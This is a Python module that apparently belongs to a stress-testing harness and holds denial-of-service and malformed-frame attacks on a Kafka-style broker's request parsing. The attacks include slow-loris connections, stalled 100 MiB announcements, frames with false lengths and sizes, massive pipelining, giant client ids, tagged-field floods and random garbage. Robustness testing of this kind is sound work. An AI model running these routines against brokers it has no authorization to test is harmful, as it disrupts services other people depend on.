"""Attacks on the way from bytes to requests."""

import contextlib
import itertools
import os
import random
import struct
import time

import attack as lies
from raw import PROTOCOL
from schema import varint

from . import attack, flood, hold, metadata_of_all, request

FRAMING = "framing"
LIMIT = 100 << 20  # socket.request.max.bytes


@attack(FRAMING)
def slow_loris(t):
    """Hundreds of connections send a small request byte by byte, five bytes a second each."""
    frame = metadata_of_all()
    crowd = [t.socket() for _ in range(t.many(600, 200))]
    for at in itertools.cycle(range(len(frame))):
        if t.over():
            return f"{len(crowd)} connections"
        for s in crowd:
            with contextlib.suppress(OSError):
                s.send(frame[at : at + 1])
        time.sleep(min(0.2, t.left()))


def announce(t, sent):
    """A connection that announces a Produce request of 100 MiB and has sent so much of it."""
    s = t.socket(blocking=True)
    s.sendall(struct.pack(">i", LIMIT) + PROTOCOL.request_header(0, 9, 1))
    s.setblocking(False)
    with contextlib.suppress(OSError):
        s.send(bytes(sent))
    return s


@attack(FRAMING)
def announced_and_stalled(t):
    """200 connections announce 100 MiB, send what they get rid of, and go on with a byte now and then."""
    crowd = [announce(t, 1 << 20) for _ in range(t.many(200, 60))]
    piece = bytes(1 << 20)
    while not t.over():
        for s in crowd:
            with contextlib.suppress(OSError):
                s.send(piece)
        time.sleep(min(0.1, t.left()))
    return f"{len(crowd)} connections"


@attack(FRAMING)
def announced_and_silent(t):
    """A thousand connections announce 100 MiB and send nothing of it."""
    return hold(t, [announce(t, 0) for _ in range(t.many(1000, 300))])


@attack(FRAMING)
def lengths_that_lie(t):
    """Requests of every API in which a length or a count is a lie."""
    dice = random.Random(5)
    keys = list(lies.KEYS)
    dice.shuffle(keys)
    total = 0
    for key in itertools.cycle(keys):
        frames = list(lies.frames(key))
        some = dice.sample(frames, min(len(frames), t.many(400, 60)))
        if t.over():
            return f"{total} frames"
        counts = lies.volley(t.address, some, patience=max(0.1, min(10, t.left())))
        total += sum(counts)


@attack(FRAMING)
def sizes_that_lie(t):
    """Frames of negative, zero and enormous sizes, and other protocols."""
    sizes = [struct.pack(">i", size) + bytes(32) for size in (-1, 0, -(2**31), 2**31 - 1, LIMIT + 1, 3)]
    others = [b"GET / HTTP/1.1\r\n\r\n", b"\x16\3\1\0\x33\1" + bytes(60), b"SSH-2.0-x\r\n"]
    choice = sizes + others
    return flood(t, t.many(100, 30), lambda n: choice[n % len(choice)], pause=0.01)


@attack(FRAMING)
def half_frames(t):
    """Connections send the half of a long request and are reset, again and again."""
    half = struct.pack(">i", 1 << 20) + PROTOCOL.request_header(0, 9, 1) + bytes(1 << 19)
    total = 0
    while not t.over():
        crowd = [t.socket() for _ in range(20)]
        for s in crowd:
            with contextlib.suppress(OSError):
                s.sendall(half)
        for s in crowd:
            s.close()
        total += len(crowd)
    return f"{total} connections"


@attack(FRAMING)
def pipelined(t):
    """A hundred thousand requests on one connection, before any answer is read."""
    frame = request("ApiVersions", 3, {"ClientSoftwareName": "x", "ClientSoftwareVersion": "1"})
    with t.connection() as c:
        c.socket.setblocking(False)
        left = memoryview(frame * 100_000)
        while left and not t.over():
            try:
                left = left[c.socket.send(left) :]
            except BlockingIOError:
                # It does not read on before answers are taken: so be it.
                if t.left() < t.seconds / 2:
                    break
                time.sleep(0.05)
        c.socket.settimeout(max(t.left(), 0.01))
        got = 0
        with contextlib.suppress(OSError):
            while not t.over():
                got += len(c.socket.recv(1 << 20))
        return f"{100_000 - len(left) // len(frame)} sent, {got >> 10} KiB read"


@attack(FRAMING)
def pipelined_by_all(t):
    """Fifty connections send small requests as fast as they can, and read the answers."""
    frame = request("ApiVersions", 3, {"ClientSoftwareName": "x", "ClientSoftwareVersion": "1"})
    return flood(t, 50, frame * 500)


@attack(FRAMING)
def giant_client_ids(t):
    """Requests with client ids of 32,767 bytes, of several APIs, read and not read."""
    giant = "\u007f" * 32767
    join = {
        "GroupId": "giants", "SessionTimeoutMs": 30000, "RebalanceTimeoutMs": 30000, "MemberId": "", "ProtocolType": "consumer",
        "Protocols": [{"Name": "range", "Metadata": b"\0\0\0\0"}],
    }
    choice = [
        request("ApiVersions", 0, {}, giant), request("Metadata", 9, {"Topics": []}, giant), request("JoinGroup", 3, join, giant),
        request("FindCoordinator", 3, {"Key": "x"}, giant),
    ]
    return flood(t, t.many(64, 16), lambda n: choice[n % len(choice)] * 4, read=True)


def with_tags(count, size):
    """A Metadata request with so many unknown tagged fields of `size` bytes, in its header and its body."""
    tags = varint(count) + b"".join(varint(100 + n) + varint(size) + bytes(size) for n in range(count))
    head = struct.pack(">hhih", 3, 9, 1, -1) + tags
    body = varint(1) + b"\1\0\0" + tags
    return struct.pack(">i", len(head + body)) + head + body


@attack(FRAMING)
def tagged_fields(t):
    """Requests with a hundred thousand unknown tagged fields, or with one of a megabyte."""
    choice = [with_tags(100_000, 0), with_tags(1, 1 << 20), with_tags(10_000, 30)]
    return flood(t, t.many(24, 8), lambda n: choice[n % len(choice)])


@attack(FRAMING)
def garbage(t):
    """Random bytes in frames that tell their size right."""
    dice = random.Random(7)
    frames = [lies.frame(struct.pack(">hh", dice.randrange(76), dice.randrange(12)) + os.urandom(dice.randrange(8, 300))) for _ in range(500)]
    return flood(t, t.many(64, 24), lambda n: dice.choice(frames), pause=0.005)
